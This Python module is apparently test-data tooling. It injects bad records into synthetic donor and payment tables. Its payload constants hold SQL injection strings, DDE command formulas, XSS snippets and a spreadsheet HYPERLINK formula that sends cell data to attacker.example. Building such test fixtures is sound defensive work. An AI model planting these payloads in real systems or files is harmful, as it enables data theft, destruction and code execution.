"""Inject a share of bad records (invalid emails, malformed amounts, injections...) and list them."""

from __future__ import annotations

from typing import Any

import numpy as np

from sandbox.datagen.tables import SourceTable

SQL = (
    "Robert'); DROP TABLE donors;--",
    "' OR '1'='1",
    "1; DELETE FROM gifts WHERE 1=1 --",
    "x' UNION SELECT password FROM users --",
)
FORMULA = (
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click here")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
HTML = ("<script>alert('x')</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>')
CURRENCY = ("XYZ", "USDD", "US$", "BTC", "ZZZ", "DOLLARS")
TEXT_AMOUNTS = ("12,50", "$25.00", "twenty", "1.2.3", "-25.00", "", "25.00.00", "N/A")
_ACCENTS = str.maketrans({"e": "é", "a": "á", "o": "ö", "u": "ü", "i": "í"})

#: table -> [(kind, field path, column holding the original value or "")]
PLAN: dict[str, tuple[tuple[str, str, str], ...]] = {
    "stripe/customers": (
        ("invalid_email", "email", "email"),
        ("mojibake", "name", "name"),
        ("injection_sql", "name", ""),
        ("injection_html", "name", ""),
        ("oversized", "name", "name"),
        ("future_date", "created", ""),
    ),
    "stripe/charges": (
        ("invalid_email", "billing_details.email", "email"),
        ("malformed_amount", "amount", "amount"),
        ("unknown_currency", "currency", ""),
        ("future_date", "created", ""),
        ("mojibake", "billing_details.name", "name"),
        ("injection_sql", "billing_details.name", ""),
        ("injection_formula", "description", ""),
        ("injection_html", "billing_details.name", ""),
        ("oversized", "description", "description"),
    ),
    "donorbox/donations": (
        ("invalid_email", "donor.email", "email"),
        ("malformed_amount", "amount", ""),
        ("unknown_currency", "currency", ""),
        ("future_date", "donation_date", ""),
        ("mojibake", "donor.last_name", "last"),
        ("injection_sql", "donor.last_name", ""),
        ("injection_formula", "donor.first_name", ""),
        ("injection_html", "comment", ""),
        ("oversized", "comment", "comment"),
    ),
    "classy/transactions": (
        ("invalid_email", "member_email_address", "email"),
        ("malformed_amount", "total_gross_amount", ""),
        ("unknown_currency", "currency_code", ""),
        ("future_date", "purchased_at", ""),
        ("mojibake", "billing_last_name", "last"),
        ("injection_sql", "billing_last_name", ""),
        ("injection_formula", "billing_first_name", ""),
        ("injection_html", "comment", ""),
        ("oversized", "comment", "comment"),
    ),
    "csv/bank_cheque_export": (
        ("invalid_email", "Email", "Email"),
        ("malformed_amount", "Amount", ""),
        ("unknown_currency", "Currency", ""),
        ("future_date", "Deposit Date", ""),
        ("mojibake", "Donor Name", "Donor Name"),
        ("injection_sql", "Donor Name", ""),
        ("injection_formula", "Donor Name", ""),
        ("injection_html", "Address 1", ""),
        ("oversized", "Address 1", "Address 1"),
    ),
    "csv/event_platform_export": (
        ("invalid_email", "Email Address", "Email Address"),
        ("malformed_amount", "Donation Amount", ""),
        ("unknown_currency", "Currency", ""),
        ("future_date", "Order Date", ""),
        ("mojibake", "Last Name", "Last Name"),
        ("invalid_utf8", "First Name", "First Name"),
        ("injection_sql", "Last Name", ""),
        ("injection_formula", "First Name", ""),
        ("injection_html", "Street", ""),
        ("oversized", "Street", "Street"),
    ),
}


def mojibake(text: str) -> str:
    """Return ``text`` as UTF-8 bytes misread as Windows-1252 (``Renée`` -> ``RenÃ©e``)."""
    if text.isascii():
        text = (text or "Jose").translate(_ACCENTS) if any(v in text for v in "aeiou") else text + "é"
    return text.encode("utf-8").decode("cp1252", errors="replace").replace("\ufffd", "?")


def invalid_email(original: str, pick: int) -> str:
    """Break an email address the ways forms let through."""
    local, _, domain = (original or "donor@example.com").partition("@")
    domain = domain or "example.com"
    options = (
        f"{local}@@{domain}",
        f"{local} at {domain}",
        f"{local}@",
        f"@{domain}",
        f"{local}@{domain.split('.')[0]}",
        f"{local}..x@{domain}",
        f"{local} {local}@{domain}",
    )
    return options[pick % len(options)]


def bad_value(  # noqa: PLR0911, PLR0912, PLR0917 - one branch per kind of badness
    kind: str, source: str, original: Any, r: int, as_of: int, rng: np.random.Generator
) -> Any:
    """Return the bad value of ``kind`` for a field of ``source`` (``r`` picks among variants)."""
    stripe = source.startswith("stripe/")
    if kind == "invalid_email":
        return invalid_email(str(original or ""), r)
    if kind == "malformed_amount":
        if stripe:
            amount = int(original)
            return (-amount, f"{amount / 100:.2f}", amount + 0.5, "NaN")[r % 4]
        if source == "classy/transactions":
            return ("25,00", -25.0, "N/A", None)[r % 4]
        return TEXT_AMOUNTS[r % len(TEXT_AMOUNTS)]
    if kind == "unknown_currency":
        code = CURRENCY[r % len(CURRENCY)]
        return code.lower() if stripe or source == "donorbox/donations" else code
    if kind == "future_date":
        ts = as_of + int(rng.integers(400, 2000)) * 86_400 + int(rng.integers(0, 86_400))
        if stripe:
            return ts
        stamp = np.datetime_as_string(np.datetime64(ts, "s").astype("datetime64[ms]"), unit="ms")
        if source == "csv/bank_cheque_export":
            return f"{stamp[5:7]}/{stamp[8:10]}/{stamp[0:4]}"
        if source == "csv/event_platform_export":
            return stamp[:19].replace("T", " ")
        return stamp + "Z"
    if kind == "mojibake":
        return mojibake(str(original or "José"))
    if kind == "invalid_utf8":
        text = str(original or "Jose")
        return text[:-1] + "\udce9" if len(text) > 1 else "Jos\udce9"  # a lone Latin-1 byte in a UTF-8 file
    if kind == "injection_sql":
        return SQL[r % len(SQL)]
    if kind == "injection_formula":
        return FORMULA[r % len(FORMULA)]
    if kind == "injection_html":
        return HTML[r % len(HTML)]
    if kind == "oversized":
        size = 2_000 + r % 4_000
        return ((str(original) + " ") if original else "") + (
            "Lorem ipsum dolor sit amet " * (size // 27 + 1)
        )[:size]
    raise ValueError(f"unknown kind of bad record: {kind}")


def inject(
    rng: np.random.Generator, table: SourceTable, share: float, as_of: int
) -> list[tuple[str, str, str, str]]:
    """Replace one field in a ``share`` of ``table``'s records with a bad value; return what was broken."""
    plan = PLAN.get(table.name)
    if not plan or not len(table) or share <= 0:
        return []
    rows = np.flatnonzero(rng.random(len(table)) < share)
    kinds = rng.integers(0, len(plan), len(rows))
    variants = rng.integers(0, 10_000, len(rows))
    listed: list[tuple[str, str, str, str]] = []
    ids = table.ids[rows].tolist()
    for row, k, r, record_id in zip(rows.tolist(), kinds.tolist(), variants.tolist(), ids, strict=True):
        kind, path, column = plan[k]
        original = table.columns[column][row] if column else None
        if isinstance(original, np.generic):
            original = original.item()
        table.overrides.setdefault(row, []).append(
            (path, bad_value(kind, table.name, original, r, as_of, rng))
        )
        listed.append((table.name, record_id, path, kind))
    return listed
